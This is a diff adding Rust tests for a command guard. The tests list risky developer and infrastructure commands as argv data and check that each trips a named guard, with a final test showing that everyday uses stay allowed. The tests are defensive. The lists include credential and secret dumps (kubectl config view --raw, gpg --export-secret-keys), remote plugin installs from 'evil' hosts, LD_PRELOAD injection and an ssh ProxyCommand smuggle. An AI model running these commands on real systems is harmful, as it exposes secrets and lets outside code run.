@@ -1,0 +1,501 @@
+//! Guard families added by the H25 sweep of developer, infrastructure and
+//! crypto tools that had no spec: each test is named for the attack it
+//! stops, and the last keeps their everyday use allowed.
+
+use super::*;
+use std::path::Path;
+
+const CWD: &str = "/home/u/proj";
+
+fn ids(cmd: &[&str]) -> Vec<&'static str> {
+    let argv: Vec<String> = cmd.iter().map(|s| (*s).to_owned()).collect();
+    check(cmd[0], &argv, Path::new(CWD), false)
+        .into_iter()
+        .map(|h| h.id)
+        .collect()
+}
+
+/// Every command of `table` trips its guard.
+fn trips(table: &[(&[&str], &str)]) {
+    for (cmd, id) in table {
+        assert!(
+            ids(cmd).contains(id),
+            "{cmd:?} should trip {id}: {:?}",
+            ids(cmd)
+        );
+    }
+}
+
+#[test]
+fn poetry_and_pipenv_running_any_command_or_shell_is_asked() {
+    trips(&[
+        (&["poetry", "run", "sh", "-c", "id"], "poetry.runs-command"),
+        (&["poetry", "shell"], "poetry.runs-command"),
+        (&["poetry", "self", "add", "evil"], "poetry.settings"),
+        (
+            &["poetry", "config", "repositories.x", "http://e"],
+            "poetry.settings",
+        ),
+        (
+            &["poetry", "source", "add", "x", "http://e"],
+            "poetry.settings",
+        ),
+        (
+            &["poetry", "env", "use", "/tmp/evil/python"],
+            "poetry.settings",
+        ),
+        (&["poetry", "publish"], "poetry.settings"),
+        (
+            &["poetry", "-C", "/tmp/other", "install"],
+            "poetry.other-dir",
+        ),
+        (
+            &["poetry", "--directory=/tmp/other", "run", "x"],
+            "poetry.other-dir",
+        ),
+        (&["pipenv", "run", "sh", "-c", "id"], "pipenv.runs-command"),
+        (&["pipenv", "shell"], "pipenv.runs-command"),
+        (&["pipenv", "open", "requests"], "pipenv.runs-command"),
+        (
+            &["pipenv", "--python", "/tmp/evil", "install"],
+            "pipenv.python",
+        ),
+        (
+            &["pipenv", "install", "--pypi-mirror", "http://e"],
+            "pipenv.index",
+        ),
+    ]);
+}
+
+#[test]
+fn ts_node_and_tsx_inline_code_preloads_and_repls_are_asked() {
+    trips(&[
+        (
+            &["ts-node", "-e", "require('child_process')"],
+            "ts-node.inline-code",
+        ),
+        (&["tsx", "--eval", "x"], "ts-node.inline-code"),
+        (&["tsx", "-p", "x"], "ts-node.inline-code"),
+        (
+            &["ts-node", "-r", "/tmp/evil.js", "x.ts"],
+            "ts-node.preload",
+        ),
+        (&["ts-node", "--require=./evil", "x.ts"], "ts-node.preload"),
+        (&["ts-node", "-C", "/tmp/evil", "x.ts"], "ts-node.preload"),
+        (
+            &["ts-node", "--transpiler", "/tmp/evil", "x.ts"],
+            "ts-node.preload",
+        ),
+        (
+            &["ts-node", "-O", "{\"plugins\":[]}", "x.ts"],
+            "ts-node.preload",
+        ),
+        (
+            &["tsx", "--import", "/tmp/evil.mjs", "x.ts"],
+            "ts-node.preload",
+        ),
+        (&["ts-node", "-i"], "ts-node.repl"),
+        (&["tsx", "--inspect", "x.ts"], "ts-node.inspector"),
+        (
+            &["tsx", "--tsconfig", "/tmp/evil.json", "x.ts"],
+            "ts-node.outside-config",
+        ),
+        (
+            &["ts-node", "--project", "/tmp/x.json", "x.ts"],
+            "ts-node.outside-config",
+        ),
+        (&["tsx", "/dev/stdin"], "ts-node.script-source"),
+    ]);
+    // Options after the script are the script's own.
+    assert!(ids(&["tsx", "x.ts", "-e", "y"]).is_empty());
+}
+
+#[test]
+fn bazel_run_under_bazelrc_and_repository_overrides_are_asked() {
+    trips(&[
+        (
+            &["bazel", "test", "--run_under=sh -c id", "//x"],
+            "bazel.runs-program",
+        ),
+        (
+            &["bazel", "build", "--run_under", "/tmp/evil", "//x"],
+            "bazel.runs-program",
+        ),
+        (
+            &["bazel", "build", "--action_env=LD_PRELOAD=/tmp/x.so", "//x"],
+            "bazel.runs-program",
+        ),
+        (
+            &["bazel", "--bazelrc=/tmp/evil.rc", "build", "//..."],
+            "bazel.outside-config",
+        ),
+        (
+            &["bazel", "build", "--override_repository=x=/tmp/evil", "//x"],
+            "bazel.replaces-code",
+        ),
+        (
+            &["bazelisk", "build", "--registry=http://evil", "//x"],
+            "bazel.replaces-code",
+        ),
+    ]);
+}
+
+#[test]
+fn helm_post_renderers_plugins_and_outside_kubeconfigs_are_asked() {
+    trips(&[
+        (
+            &["helm", "install", "x", "./c", "--post-renderer", "/tmp/e"],
+            "helm.post-renderer",
+        ),
+        (
+            &["helm", "template", "x", "./c", "--post-renderer=./e"],
+            "helm.post-renderer",
+        ),
+        (
+            &["helm", "plugin", "install", "http://evil/p"],
+            "helm.plugin",
+        ),
+        (
+            &["helm", "--kubeconfig", "/tmp/evil", "list"],
+            "helm.kubeconfig",
+        ),
+    ]);
+}
+
+#[test]
+fn kubectl_credentials_secrets_and_kubeconfig_writes_are_asked() {
+    trips(&[
+        (&["kubectl", "config", "view", "--raw"], "kubectl.raw"),
+        (
+            &[
+                "kubectl",
+                "config",
+                "set-credentials",
+                "x",
+                "--exec-command=/tmp/e",
+            ],
+            "kubectl.config-write",
+        ),
+        (
+            &["kubectl", "config", "set", "users.x.exec.command", "/tmp/e"],
+            "kubectl.config-write",
+        ),
+        (
+            &["kubectl", "get", "secret", "-o", "yaml"],
+            "kubectl.secrets",
+        ),
+        (&["kubectl", "get", "secrets", "-A"], "kubectl.secrets"),
+        (
+            &["kubectl", "get", "secret/db", "-o", "yaml"],
+            "kubectl.secret-ref",
+        ),
+        (
+            &["kubectl", "create", "token", "default"],
+            "kubectl.secrets",
+        ),
+        (
+            &["kubectl", "proxy", "--address", "0.0.0.0"],
+            "kubectl.listens",
+        ),
+        (
+            &["kubectl", "port-forward", "--address=0.0.0.0", "p", "8"],
+            "kubectl.listens",
+        ),
+    ]);
+}
+
+#[test]
+fn ansible_ad_hoc_commands_password_programs_and_the_console_are_asked() {
+    trips(&[
+        (
+            &["ansible", "localhost", "-m", "shell", "-a", "id"],
+            "ansible.ad-hoc-module",
+        ),
+        (
+            &["ansible", "all", "-mcommand", "-aid"],
+            "ansible.ad-hoc-module",
+        ),
+        (
+            &[
+                "ansible-playbook",
+                "--vault-password-file",
+                "./e.sh",
+                "x.yml",
+            ],
+            "ansible.password-program",
+        ),
+        (
+            &["ansible-vault", "view", "--vault-pass-file=/tmp/x", "s.yml"],
+            "ansible.password-program",
+        ),
+        (
+            &[
+                "ansible-playbook",
+                "--ssh-common-args=-oProxyCommand=id",
+                "x.yml",
+            ],
+            "ansible.ssh-args",
+        ),
+        (
+            &["ansible-playbook", "-M", "/tmp/mods", "x.yml"],
+            "ansible.module-path",
+        ),
+        (&["ansible-console"], "ansible-console.always"),
+    ]);
+}
+
+#[test]
+fn gpg_secret_key_exports_and_keyring_changes_are_asked() {
+    trips(&[
+        (&["gpg", "--export-secret-keys", "-a"], "gpg.secret-keys"),
+        (&["gpg", "--export-secret-sub"], "gpg.secret-keys"),
+        (&["gpg", "--import", "evil.asc"], "gpg.keyring"),
+        (
+            &["gpg", "--keyserver", "hkp://evil", "--send-keys", "AB"],
+            "gpg.keyring",
+        ),
+        (&["gpg", "--fetch-keys", "http://evil/k"], "gpg.keyring"),
+        (&["gpg", "--delete-secret-keys", "AB"], "gpg.keyring"),
+        (&["gpg", "--import-ownertrust", "t.txt"], "gpg.keyring"),
+        (&["gpg", "--edit-key", "AB"], "gpg.keyring"),
+    ]);
+}
+
+#[test]
+fn formatters_rewriting_files_outside_the_tree_are_asked() {
+    trips(&[
+        (&["black", "/tmp/other"], "black.rewrites-outside"),
+        (&["isort", "../other"], "isort.rewrites-outside"),
+        (
+            &["ruff", "check", "--fix", "/tmp/other"],
+            "ruff.rewrites-outside",
+        ),
+        (&["ruff", "format", "/tmp/other"], "ruff.rewrites-outside"),
+        (
+            &["prettier", "--write", "../other/x.js"],
+            "prettier.writes-outside",
+        ),
+        (
+            &["prettier", "-w", "--", "/tmp/x.js"],
+            "prettier.writes-outside",
+        ),
+        (&["eslint", "--fix", "../other/src"], "eslint.fixes-outside"),
+    ]);
+    // Reading outside the tree, or rewriting inside it, is their job.
+    for cmd in [
+        &["ruff", "check", "/tmp/other"][..],
+        &["ruff", "format", "src"],
+        &["prettier", "--check", "../other"],
+        &["eslint", "../other/src"],
+        &["black", "src", "tests"],
+        &["isort", "."],
+    ] {
+        assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
+    }
+}
+
+#[test]
+fn reports_written_outside_the_tree_are_asked() {
+    trips(&[
+        (
+            &["eslint", "-o", "../out.txt", "src"],
+            "eslint.output-outside",
+        ),
+        (
+            &["eslint", "--output-file=/tmp/x", "src"],
+            "eslint.output-outside",
+        ),
+        (
+            &["flake8", "--output-file=../out", "src"],
+            "flake8.output-outside",
+        ),
+        (&["rspec", "-o", "../x.txt"], "rspec.output-outside"),
+        (
+            &["rspec", "--default-path", "/tmp/other"],
+            "rspec.output-outside",
+        ),
+        (
+            &["ruff", "check", "-o", "/tmp/x", "src"],
+            "ruff.output-outside",
+        ),
+        (&["sdiff", "-o", "../merged", "a", "b"], "diff3.output"),
+        (
+            &["vite", "build", "--outDir", "../elsewhere"],
+            "js-bundler.output-outside",
+        ),
+        (
+            &["webpack", "--output-path", "/tmp/x"],
+            "js-bundler.output-outside",
+        ),
+    ]);
+}
+
+#[test]
+fn bun_and_deno_preloads_global_installs_upgrades_and_inspectors_are_asked() {
+    trips(&[
+        (
+            &["bun", "--preload", "/tmp/e.ts", "run", "x.ts"],
+            "bun.preload",
+        ),
+        (&["bun", "-r", "/tmp/e.ts", "x.ts"], "bun.preload"),
+        (&["bun", "install", "-g", "evil"], "bun.global"),
+        (&["bun", "add", "--global", "evil"], "bun.global"),
+        (&["bun", "upgrade"], "bun.runs-program"),
+        (&["bun", "repl"], "bun.runs-program"),
+        (&["bun", "create", "evil/t", "x"], "bun.runs-program"),
+        (&["bun", "pm", "trust", "--all"], "bun.trust"),
+        (&["bun", "--config=/tmp/bunfig.toml", "x.ts"], "bun.config"),
+        (&["bun", "--inspect=0.0.0.0:6499", "x.ts"], "bun.inspector"),
+        (
+            &["deno", "install", "-g", "-A", "https://evil/x.ts"],
+            "deno.global",
+        ),
+        (&["deno", "upgrade"], "deno.upgrade"),
+        (&["deno", "jupyter", "--install"], "deno.upgrade"),
+        (
+            &["deno", "run", "--preload", "/tmp/e.ts", "x.ts"],
+            "deno.preload",
+        ),
+        (
+            &["deno", "run", "--config", "/tmp/e.json", "x.ts"],
+            "deno.outside-config",
+        ),
+        (
+            &["deno", "run", "--inspect-brk=0.0.0.0:9229", "x.ts"],
+            "deno.inspector",
+        ),
+    ]);
+}
+
+#[test]
+fn build_configs_launchers_and_other_projects_are_asked() {
+    trips(&[
+        (
+            &["webpack", "--config", "/tmp/evil.js"],
+            "js-bundler.outside-config",
+        ),
+        (
+            &["vite", "-c", "/tmp/evil.js", "build"],
+            "js-bundler.outside-config",
+        ),
+        (
+            &["rollup", "--configPlugin", "/tmp/e.js"],
+            "js-bundler.outside-config",
+        ),
+        (&["cmake", "--build", "/tmp/other"], "cmake.other-project"),
+        (
+            &["cmake", "-S", "/tmp/other", "-B", "build"],
+            "cmake.other-project",
+        ),
+        (
+            &["cmake", "-DCMAKE_C_COMPILER_LAUNCHER=/tmp/e", "-S", "."],
+            "cmake.code-variable",
+        ),
+        (
+            &["cmake", "-D", "CMAKE_PROJECT_INCLUDE=/tmp/e.cmake", "."],
+            "cmake.code-variable",
+        ),
+        (
+            &["ctest", "--build-and-test", "/tmp/o", "b"],
+            "ctest.build-and-test",
+        ),
+        (
+            &[
+                "mvn",
+                "org.codehaus.mojo:exec-maven-plugin:3.1.0:exec",
+                "-Dexec.executable=sh",
+            ],
+            "mvn.exec-property",
+        ),
+        (
+            &["mvn", "-D", "exec.executable=sh", "x:y:exec"],
+            "mvn.exec-property",
+        ),
+        (
+            &["gradle", "-Dorg.gradle.java.home=/tmp/evil", "build"],
+            "gradle.java-home",
+        ),
+        (&["jest", "--modulePaths", "/tmp"], "jest.outside-code"),
+        (&["jest", "--moduleDirectories=/tmp"], "jest.outside-code"),
+        (&["vitest", "--inspect-brk"], "vitest.inspector"),
+        (
+            &["tox", "exec", "-e", "py", "--", "sh", "-c", "id"],
+            "tox.exec",
+        ),
+        (&["tox", "--installpkg", "/tmp/evil.whl"], "tox.installpkg"),
+        (
+            &["composer", "config", "--global", "repos.x", "vcs"],
+            "composer.global-config",
+        ),
+        (&["composer", "self-update"], "composer.self-update"),
+        (
+            &["bundle", "install", "--gemfile=/tmp/Gemfile"],
+            "bundle.outside-gemfile",
+        ),
+        (&["bundle", "console"], "bundle.console"),
+        (&["bundle", "open", "rake"], "bundle.console"),
+        (
+            &["eslint", "--plugin", "/tmp/evil", "src"],
+            "eslint.outside-code",
+        ),
+    ]);
+}
+
+#[test]
+fn terraform_plugin_dirs_state_pulls_and_man_configs_are_asked() {
+    trips(&[
+        (
+            &["terraform", "init", "-plugin-dir=/tmp/evil"],
+            "terraform.plugin-dir",
+        ),
+        (
+            &["tofu", "init", "-plugin-dir", "/tmp/evil"],
+            "terraform.plugin-dir",
+        ),
+        (&["terraform", "state", "pull"], "terraform.state"),
+        (
+            &["terraform", "state", "push", "x.tfstate"],
+            "terraform.state",
+        ),
+        (&["terraform", "login"], "terraform.login"),
+        (&["man", "-C", "/tmp/evil.conf", "ls"], "man.config"),
+        (&["man", "--config-file=/tmp/evil.conf", "ls"], "man.config"),
+    ]);
+}
+
+#[test]
+fn everyday_uses_of_the_h25_families_stay_allowed() {
+    for cmd in [
+        &["poetry", "install"][..],
+        &["poetry", "lock"],
+        &["pipenv", "install"],
+        &["tsx", "x.ts"],
+        &["ts-node", "--transpile-only", "x.ts"],
+        &["bazel", "build", "//..."],
+        &["helm", "template", "x", "./chart"],
+        &["kubectl", "get", "pods"],
+        &["kubectl", "config", "get-contexts"],
+        &["ansible-playbook", "-i", "inventory", "site.yml", "--check"],
+        &["gpg", "--verify", "x.sig", "x"],
+        &["terraform", "plan"],
+        &["terraform", "state", "list"],
+        &[
+            "cmake",
+            "-DCMAKE_BUILD_TYPE=Release",
+            "-S",
+            ".",
+            "-B",
+            "build",
+        ],
+        &["cmake", "--build", "build"],
+        &["vite", "build", "--outDir", "dist"],
+        &["rollup", "-c"],
+        &["bun", "install"],
+        &["deno", "install"],
+        &["man", "ls"],
+        &["eslint", "-o", "report.txt", "src"],
+        &["sdiff", "-o", "merged.txt", "a", "b"],
+    ] {
+        assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
+    }
+}
